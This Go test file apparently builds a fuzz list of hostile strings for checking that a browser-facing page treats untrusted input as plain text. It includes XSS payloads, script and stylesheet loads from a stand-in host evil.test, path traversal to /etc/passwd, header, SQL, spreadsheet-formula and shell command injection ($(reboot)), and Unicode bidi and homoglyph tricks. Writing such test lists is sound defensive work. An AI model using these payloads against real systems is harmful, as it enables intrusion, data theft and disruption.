package browser_test

import "strings"

// hostile are strings that would run, restyle, redirect, reorder or overflow a
// page that takes them for anything but text. What of them runs calls pwn.
func hostile() []string {
	list := []string{
		// markup
		`<script>pwn(1)</script>`, `<SCRIPT>pwn(2)</SCRIPT>`, `<scr<script>ipt>pwn(3)</scr</script>ipt>`, `<script src=//evil.test/x.js></script>`,
		`<script>pwn(4)//`, `</script><script>pwn(5)</script>`, `</title><script>pwn(6)</script>`, `</textarea><script>pwn(7)</script>`,
		`</style><script>pwn(8)</script>`, `<!--><script>pwn(9)</script>-->`, `<![CDATA[<script>pwn(10)</script>]]>`, `<img src=x onerror=pwn(11)>`,
		`<img src=x onerror="pwn(12)">`, `<img/src/onerror=pwn(13)>`, `<img src="x:x" onerror="pwn(14)"`, `<svg onload=pwn(15)>`, `<svg/onload=pwn(16)>`,
		`<svg><script>pwn(17)</script></svg>`, `<svg><animate onbegin=pwn(18) attributeName=x dur=1s>`, `<svg><a xlink:href="javascript:pwn(19)"><text>x</text></a></svg>`,
		`<svg><use href="data:image/svg+xml,<svg id=x onload=pwn(20)>#x"/></svg>`, `<math><mtext></table><img src=x onerror=pwn(21)></mtext></math>`,
		`<body onload=pwn(22)>`, `<iframe src="javascript:pwn(23)"></iframe>`, `<iframe srcdoc="<script>parent.pwn(24)</script>"></iframe>`,
		`<object data="javascript:pwn(25)">`, `<embed src="javascript:pwn(26)">`, `<video><source onerror=pwn(27)></video>`, `<audio src=x onerror=pwn(28)>`,
		`<details open ontoggle=pwn(29)>`, `<marquee onstart=pwn(30)>`, `<input autofocus onfocus=pwn(31)>`, `<select autofocus onfocus=pwn(32)>`,
		`<textarea autofocus onfocus=pwn(33)>`, `<style>@import '//evil.test/x.css';</style>`, `<style>*{display:none!important}</style>`,
		`<link rel=stylesheet href=//evil.test/x.css>`, `<link rel=import href=//evil.test/x>`, `<base href=//evil.test/>`,
		`<meta http-equiv=refresh content="0;url=//evil.test/">`, `<form action=//evil.test/><input name=x><button>go`, `<template><script>pwn(34)</script></template>`,
		`<a href="javascript:pwn(35)">x</a>`, `<a href=//evil.test/ target=_blank>sign in again</a>`, `<button onclick=pwn(36)>HALT</button>`,
		`<dialog open><h1>You are signed out</h1></dialog>`, `<div style="position:fixed;inset:0;background:red">`, `<xss id=x tabindex=1 onfocus=pwn(37)></xss>#x`,
		`<noscript><p title="</noscript><img src=x onerror=pwn(38)>">`, `<table background="javascript:pwn(39)">`, `<isindex action=javascript:pwn(40)>`,
		`<portal src="javascript:pwn(41)">`, `<slot onslotchange=pwn(42)>`, `<keygen autofocus onfocus=pwn(43)>`, `<frameset onload=pwn(44)>`,
		// out of an attribute
		`" onmouseover="pwn(45)`, `' onmouseover='pwn(46)`, "` onmouseover=`pwn(47)", `"><script>pwn(48)</script>`, `'><script>pwn(49)</script>`,
		`"><img src=x onerror=pwn(50)>`, `" autofocus onfocus=pwn(51) x="`, `" style="animation-name:x" onanimationstart="pwn(52)`, `"/><svg/onload=pwn(53)>`,
		`x" formaction="javascript:pwn(54)`, `&quot;><img src=x onerror=pwn(55)>`, `&#34;&#62;<img src=x onerror=pwn(56)>`, `" srcset="//evil.test/x`,
		// out of a script or a template
		`';pwn(57);//`, `";pwn(58);//`, "`;pwn(59);//", `${pwn(60)}`, "`${pwn(61)}`", `{{constructor.constructor('pwn(62)')()}}`, `{{7*7}}`, `{pwn(63)}`, `{@html '<img src=x onerror=pwn(64)>'}`,
		`<%= pwn(65) %>`, `#{pwn(66)}`, `{% import os %}{{ os.system('x') }}`, `{{.}}{{template "x"}}`, `[[pwn(67)]]`, `\u003cscript\u003epwn(68)\u003c/script\u003e`,
		`\x3cscript\x3epwn(69)\x3c/script\x3e`, `</script><svg onload=pwn(70)>`, `-pwn(71)-`, `*/pwn(72)/*`, `);pwn(73);(`, `__proto__`, `constructor`, `toString`, `hasOwnProperty`,
		`{"__proto__":{"x":1}}`, `null`, `undefined`, `NaN`, `[object Object]`, `-1`, `1e309`,
		// addresses
		`javascript:pwn(74)`, `JaVaScRiPt:pwn(75)`, "java\tscript:pwn(76)", ` javascript:pwn(77)`, `javascript://%0apwn(78)`, `data:text/html,<script>pwn(79)</script>`,
		`vbscript:pwn(80)`, `blob:x`, `//evil.test/`, `https://evil.test/`, `/\evil.test`, `\\evil.test\x`, `http:evil.test`, `/%2f%2fevil.test`, `?next=//evil.test`, `#<img src=x onerror=pwn(81)>`,
		`../../../../etc/passwd`, `..%2f..%2f`, `%00`, `%0d%0aSet-Cookie:x=1`, `%3Cscript%3Epwn(82)%3C/script%3E`,
		// styles
		`expression(pwn(83))`, `url(javascript:pwn(84))`, `;background:url(//evil.test/x)`, `}*{display:none}`, `color:red;}</style>`, `red;position:fixed;inset:0`, `@import url(//evil.test/x.css)`,
		// entities
		`&lt;script&gt;pwn(85)&lt;/script&gt;`, `&#x3c;img src=x onerror=pwn(86)&#x3e;`, `&amp;lt;b&amp;gt;`, `&nbsp;&shy;&zwj;`, `&`, `&&&&`, `&#0;`, `<`, `>`, `<>`, `</`, `<!--`, `-->`, `]]>`, `<?xml?>`,
		// spreadsheets, shells, databases: where an export is opened
		`=cmd|'/c calc'!A1`, `+1+1`, `@SUM(1)`, `'; DROP TABLE rollouts; --`, `" OR 1=1 --`, "$(reboot)", "`reboot`", `%s%s%s%n`, `%d%i`, `{0}`,
		// writing that turns, stacks, hides or confuses
		"\u202ehalted\u202c", "\u202e\u202d\u2066\u2067", "abc\u200f\u05d0\u05d1\u200e", "مرحبا بالعالم", "שלום <b>עולם</b>", "\u2066pwn\u2069", "a\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308",
		strings.Repeat("Z\u0351\u0352\u0353", 30), "👩‍👩‍👧‍👦🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f", "🇨🇳🇩🇪🇯🇵", "\ufeffbom", "\u200b\u200b\u200b", "\u00ad", "\ufffd", "\U0001f4a9",
		"ﷺ﷽", "㍿", "аdmin (Cyrillic)", "ⒽⒶⓁⓉ", "Ω≈ç√∫˜µ≤≥÷", "田中さん", "部落格", "ﾟ･✿ヾ╲(｡◕‿◕｡)╱✿･ﾟ", "\u2028line\u2029paragraph", "tab\there", "two  spaces", " space ahead", "space behind ",
		"line\nbreak", "car\rriage", "null\x00byte", "bell\x07", "esc\x1b[31mred\x1b[0m", "del\x7f", "c1\u0085\u009b", "\ud7ff\ue000",
		// long
		strings.Repeat("W", 490), strings.Repeat("界", 160), strings.Repeat("<b>", 160), strings.Repeat("a ", 240), strings.Repeat("\u0627\u0644", 120), strings.Repeat("🔥", 120), strings.Repeat("&amp;", 90),
		"https://example.org/" + strings.Repeat("very-long-path/", 30),
	}
	return list
}

// short are those that fit where at most n bytes do.
func short(n int) (list []string) {
	for _, h := range hostile() {
		if len(h) <= n {
			list = append(list, h)
		}
	}
	return list
}

// hostileNames are what people may call themselves at their provider, all
// strings on the few tongues of a few people.
func hostileNames() (names []string) {
	const each = 40
	list := short(64)
	for i := 0; i < len(list); i += each {
		names = append(names, strings.Join(list[i:min(i+each, len(list))], " "))
	}
	return append(names, `<img src=x onerror=pwn(90)>`, "\u202eroot", "Adam Admin <adam@example.org>")
}
